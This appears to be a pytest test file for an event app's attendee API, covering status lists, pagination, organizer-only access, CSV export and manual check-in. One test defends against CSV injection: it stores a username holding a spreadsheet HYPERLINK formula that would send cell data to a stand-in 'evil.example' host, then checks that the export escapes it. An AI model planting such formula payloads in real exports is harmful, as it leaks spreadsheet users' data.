"""The organizer's attendee tools, through the API, on every store: the list by status with its
pages, the CSV export (matching the list, safe to open in a spreadsheet), and the check-in by
hand, which counts as one arrival with the geofence's."""
import csv
import datetime
import io

import pytest

from domain.repositories import EventWindow
from tests.event_builders import PARIS, hours_from_now, publish, unknown_id
from tests.stores import STORE_NAMES

pytestmark = pytest.mark.gen_test(timeout=60)

CSV_HEADER = ["user_id", "username", "status", "waitlist_position", "joined_at", "check_in_method",
              "checked_in_by", "checked_in_at"]


@pytest.fixture(params=STORE_NAMES)
def store_name(request):
    return request.param


def path(event, suffix=""):
    return f"/api/v1/events/{event['id']}{suffix}"


async def rsvp(api, event, token):
    reply = await api.call("POST", path(event, "/rsvp"), token=token)
    assert reply.status == 200, reply
    return reply.data


async def arrive_by_gps(api, event, token):
    reply = await api.call("POST", path(event, "/arrival"),
                           {"location": {"type": "Point", "coordinates": PARIS}}, token=token)
    assert reply.status == 200, reply


async def check_in(api, event, user, token):
    return await api.call("POST", path(event, f"/attendees/{user['id']}/check-in"), token=token)


async def listed(api, event, token, query=""):
    reply = await api.call("GET", path(event, f"/attendees{query}"), token=token)
    assert reply.status == 200, reply
    return reply.data


async def every_page(api, event, token, status=None, limit=2):
    items, cursor = [], None
    while True:
        query = f"?limit={limit}" + (f"&status={status}" if status else "") + (f"&cursor={cursor}" if cursor else "")
        page = await listed(api, event, token, query)
        assert len(page["items"]) <= limit
        items += page["items"]
        cursor = page["next_cursor"]
        if cursor is None:
            return items


async def a_started_house(api, seats=2, going=2, waiting=2):
    """An event that started half an hour ago (check-in open) with `seats` seats: (event, organizer
    token, [(user, token)] going in RSVP order, [(user, token)] waiting in line order)."""
    _, organizer = await api.register(role="organizer")
    event = await publish(api, organizer, date=hours_from_now(-0.5), capacity=seats)
    people = [await api.register() for _ in range(going + waiting)]
    for _, token in people:
        await rsvp(api, event, token)
    return event, organizer, people[:going], people[going:]


async def test_the_organizer_lists_going_arrived_and_waiting_each_with_its_status(api):
    event, organizer, ((ana, ana_token), (bo, _)), ((cy, _), (di, _)) = await a_started_house(api)
    await arrive_by_gps(api, event, ana_token)

    items = (await listed(api, event, organizer))["items"]

    assert [item["user"]["id"] for item in items] == sorted(user["id"] for user in (ana, bo, cy, di))
    shown = {item["user"]["id"]: item for item in items}
    assert shown[ana["id"]]["user"]["username"] == ana["username"]
    assert (shown[ana["id"]]["status"], shown[ana["id"]]["check_in"]["method"],
            shown[ana["id"]]["check_in"]["checked_in_by"]) == ("arrived", "geofence", None)
    assert (shown[bo["id"]]["status"], shown[bo["id"]]["check_in"], shown[bo["id"]]["waitlist_position"]) == \
        ("going", None, None)
    assert [(shown[user["id"]]["status"], shown[user["id"]]["waitlist_position"]) for user in (cy, di)] == \
        [("waitlisted", 1), ("waitlisted", 2)]
    assert shown[cy["id"]]["joined_at"] is not None  # the line's join time is known on every store


@pytest.mark.parametrize("status, expected", [("going", ["bo"]), ("arrived", ["ana"]),
                                              ("waitlisted", ["cy", "di"])])
async def test_the_list_of_one_status(api, status, expected):
    event, organizer, ((ana, ana_token), (bo, _)), ((cy, _), (di, _)) = await a_started_house(api)
    await arrive_by_gps(api, event, ana_token)
    names = {"ana": ana, "bo": bo, "cy": cy, "di": di}

    items = (await listed(api, event, organizer, f"?status={status}"))["items"]

    assert [item["user"]["id"] for item in items] == sorted(names[name]["id"] for name in expected)
    assert {item["status"] for item in items} == {status}


@pytest.mark.parametrize("status", [None, "going", "waitlisted"])
async def test_pages_of_the_list_neither_repeat_nor_skip_anyone(api, status):
    event, organizer, _, _ = await a_started_house(api, seats=4, going=4, waiting=3)

    everyone = (await listed(api, event, organizer, "?limit=100" + (f"&status={status}" if status else "")))["items"]

    assert await every_page(api, event, organizer, status) == everyone
    assert len(everyone) == {None: 7, "going": 4, "waitlisted": 3}[status]


async def test_waitlisted_positions_follow_the_line_as_people_leave_it(api):
    event, organizer, _, ((_, first), (second, _)) = await a_started_house(api)
    assert (await api.call("DELETE", path(event, "/rsvp"), token=first)).status == 200

    items = (await listed(api, event, organizer, "?status=waitlisted"))["items"]

    assert [(item["user"]["id"], item["waitlist_position"]) for item in items] == [(second["id"], 1)]


async def test_nobody_but_the_events_organizer_sees_its_attendees_or_checks_anyone_in(api):
    event, _, ((ana, ana_token), _), _ = await a_started_house(api)
    _, other_organizer = await api.register(role="organizer")

    for token in (ana_token, other_organizer):
        for method, suffix in (("GET", "/attendees"), ("GET", "/attendees.csv"),
                               ("POST", f"/attendees/{ana['id']}/check-in")):
            reply = await api.call(method, path(event, suffix), token=token)
            assert (reply.status, reply.json["code"]) == (403, "not_event_organizer"), (method, suffix, reply)
    unknown = {"id": unknown_id()}
    for method, suffix in (("GET", "/attendees"), ("GET", "/attendees.csv"), ("POST", f"/attendees/{ana['id']}/check-in")):
        reply = await api.call(method, path(unknown, suffix), token=other_organizer)
        assert (reply.status, reply.json["code"]) == (404, "event_not_found"), (method, suffix, reply)
    reply = await api.call("GET", path(event, "/attendees"))
    assert reply.status == 401


@pytest.mark.parametrize("query, code, name", [("?status=maybe", "invalid_status", "status"),
                                               ("?cursor=abc", "invalid_cursor", "cursor"),
                                               ("?limit=0", "invalid_limit", "limit"),
                                               ("?page=2", "unknown_query_parameter", "page")])
async def test_a_bad_query_is_a_400_naming_the_parameter(api, query, code, name):
    event, organizer, _, _ = await a_started_house(api, going=0, waiting=0)

    reply = await api.call("GET", path(event, f"/attendees{query}"), token=organizer)

    assert (reply.status, reply.json["code"], reply.json["errors"][0]["path"]) == (400, code, name)


async def test_the_csv_export_is_a_download_of_the_same_attendees(api):
    event, organizer, ((_, ana_token), (bo, _)), _ = await a_started_house(api)
    await arrive_by_gps(api, event, ana_token)
    assert (await check_in(api, event, bo, organizer)).status == 200
    items = (await listed(api, event, organizer, "?limit=100"))["items"]

    reply = await api.call("GET", path(event, "/attendees.csv"), token=organizer)

    assert reply.status == 200
    assert reply.headers["Content-Type"] == "text/csv; charset=UTF-8"
    assert reply.headers["Content-Disposition"] == f'attachment; filename="attendees-{event["id"]}.csv"'
    rows = list(csv.reader(io.StringIO(reply.text)))
    assert rows[0] == CSV_HEADER
    check_ins = [item["check_in"] or {} for item in items]
    assert rows[1:] == [[item["user"]["id"], item["user"]["username"], item["status"],
                         str(item["waitlist_position"] or ""), item["joined_at"] or "", check_in.get("method") or "",
                         check_in.get("checked_in_by") or "", check_in.get("at") or ""]
                        for item, check_in in zip(items, check_ins)]
    assert [row[2] for row in rows[1:]].count("arrived") == 2


async def test_the_csv_export_of_one_status_and_of_nobody(api):
    event, organizer, _, waiting = await a_started_house(api)
    empty = await publish(api, organizer)

    rows = list(csv.reader(io.StringIO((await api.call("GET", path(event, "/attendees.csv?status=waitlisted"),
                                                       token=organizer)).text)))
    nobody = await api.call("GET", path(empty, "/attendees.csv"), token=organizer)

    assert [row[0] for row in rows[1:]] == sorted(user["id"] for user, _ in waiting)
    assert list(csv.reader(io.StringIO(nobody.text))) == [CSV_HEADER]
    reply = await api.call("GET", path(event, "/attendees.csv?status=everyone"), token=organizer)
    assert (reply.status, reply.json["code"]) == (400, "invalid_status")
    reply = await api.call("GET", path(event, "/attendees.csv?limit=5"), token=organizer)
    assert (reply.status, reply.json["code"]) == (400, "unknown_query_parameter")


async def test_a_username_that_a_spreadsheet_would_run_is_neutralized_in_the_csv(api, services):
    event, organizer, _, _ = await a_started_house(api, going=0, waiting=0)
    # Registration allows a leading "-"; the old backend's users may have any name at all.
    dash, dash_token = await api.register(username="-1-1")
    now = datetime.datetime.now(datetime.timezone.utc)
    formula = await services.store.users.add('=HYPERLINK("http://evil.example/?"&A1,"x")', "evil@example.com",
                                             "attendee", None, now)
    await rsvp(api, event, dash_token)
    window = EventWindow(now, datetime.timedelta(hours=12))
    assert await services.store.events.take_seat(event["id"], formula["id"], window) is not None

    reply = await api.call("GET", path(event, "/attendees.csv"), token=organizer)

    names = {row[0]: row[1] for row in csv.reader(io.StringIO(reply.text))}
    assert names[dash["id"]] == "'-1-1"
    assert names[formula["id"]] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    json_names = {item["user"]["id"]: item["user"]["username"] for item in (await listed(api, event, organizer))["items"]}
    assert json_names[dash["id"]] == "-1-1"  # JSON is no spreadsheet: the name as it is


async def test_the_csv_export_holds_every_attendee_past_its_batch(api, services, monkeypatch):
    monkeypatch.setattr("domain.events.EXPORT_BATCH", 3)
    event, organizer, going, waiting = await a_started_house(api, seats=5, going=5, waiting=2)

    reply = await api.call("GET", path(event, "/attendees.csv"), token=organizer)

    rows = list(csv.reader(io.StringIO(reply.text)))
    assert rows[0] == CSV_HEADER
    assert [row[0] for row in rows[1:]] == sorted(user["id"] for user, _ in going + waiting)


async def test_the_organizer_checks_someone_in_by_hand_recorded_as_such(api):
    event, organizer, ((ana, ana_token), _), _ = await a_started_house(api)
    organizer_id = event["organizer"]["id"]

    reply = await check_in(api, event, ana, organizer)

    assert reply.status == 200, reply
    assert (reply.data["status"], reply.data["check_in"]["method"], reply.data["check_in"]["checked_in_by"]) == \
        ("arrived", "organizer", organizer_id)
    assert reply.data["check_in"]["at"] is not None
    seen = (await api.call("GET", path(event), token=ana_token)).data
    assert (seen["has_arrived"], seen["arrival_count"]) == (True, 1)
    (listed_ana,) = (await listed(api, event, organizer, "?status=arrived"))["items"]
    assert listed_ana == reply.data


async def test_checking_in_twice_is_one_arrival_answered_the_same(api):
    event, organizer, ((ana, _), _), _ = await a_started_house(api)

    first, again = await check_in(api, event, ana, organizer), await check_in(api, event, ana, organizer)

    assert (first.status, again.status) == (200, 200)
    assert again.data == first.data
    assert (await api.call("GET", path(event, "/stats"), token=organizer)).data["arrival_count"] == 1


async def test_a_geofence_arrival_and_an_organizers_check_in_count_once_either_way_round(api):
    event, organizer, ((ana, ana_token), (bo, bo_token)), _ = await a_started_house(api)

    assert (await check_in(api, event, ana, organizer)).status == 200
    await arrive_by_gps(api, event, ana_token)  # answered as arrived, changes nothing
    await arrive_by_gps(api, event, bo_token)
    by_hand_after = await check_in(api, event, bo, organizer)

    assert (by_hand_after.status, by_hand_after.data["check_in"]["method"]) == (200, "geofence")
    stats = (await api.call("GET", path(event, "/stats"), token=organizer)).data
    assert stats["arrival_count"] == 2
    methods = {item["user"]["id"]: item["check_in"]["method"]
               for item in (await listed(api, event, organizer, "?status=arrived"))["items"]}
    assert methods == {ana["id"]: "organizer", bo["id"]: "geofence"}


async def test_only_someone_going_can_be_checked_in(api):
    event, organizer, _, ((waiting, _), _) = await a_started_house(api)
    stranger, _ = await api.register()

    for user in (waiting, stranger, {"id": unknown_id()}, {"id": "not-an-id"}):
        reply = await check_in(api, event, user, organizer)
        assert (reply.status, reply.json["code"]) == (409, "rsvp_required"), (user, reply)
    assert (await api.call("GET", path(event, "/stats"), token=organizer)).data["arrival_count"] == 0


async def test_an_organizers_check_in_keeps_the_check_in_window(api):
    _, organizer = await api.register(role="organizer")
    later = await publish(api, organizer, date=hours_from_now(3))
    over = await publish(api, organizer, date=hours_from_now(-2), end_date=hours_from_now(1))
    ana, ana_token = await api.register()
    for event in (later, over):
        await rsvp(api, event, ana_token)
    assert (await api.call("PATCH", path(over), {"end_date": hours_from_now(-0.1)}, token=organizer)).status == 200

    assert (await check_in(api, later, ana, organizer)).json["code"] == "arrival_not_open"
    assert (await check_in(api, over, ana, organizer)).json["code"] == "event_ended"


async def test_a_cancelled_rsvp_takes_the_organizers_check_in_with_it(api):
    event, organizer, ((ana, ana_token), _), _ = await a_started_house(api, waiting=0)
    assert (await check_in(api, event, ana, organizer)).status == 200

    assert (await api.call("DELETE", path(event, "/rsvp"), token=ana_token)).status == 200

    assert await listed(api, event, organizer, "?status=arrived") == {"items": [], "next_cursor": None}
    assert (await api.call("GET", path(event, "/stats"), token=organizer)).data["arrival_count"] == 0
